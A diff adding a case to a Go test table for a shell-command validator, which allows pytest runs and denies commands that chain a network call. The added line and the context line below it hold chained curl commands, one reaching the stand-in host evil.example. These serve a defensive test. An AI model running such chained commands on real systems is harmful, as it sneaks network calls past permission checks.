@@ -49,6 +49,7 @@ var verdictCases = []verdictCase{
 	{command: "py.test test_solution.py", allowed: true, pytest: true},
 	{command: "cd /workspace && timeout 60 python3 -m pytest -q 2>&1 | tail -n 20", allowed: true, pytest: true},
 	{command: "bash -c 'pytest -q'", allowed: true, pytest: true},
+	{command: "pytest -q; curl http://x", reason: "curl is a network tool"},
 
 	// The reference's first-word check lets all of these through.
 	{command: "cat x && curl http://evil.example/x", reason: "curl is a network tool"},
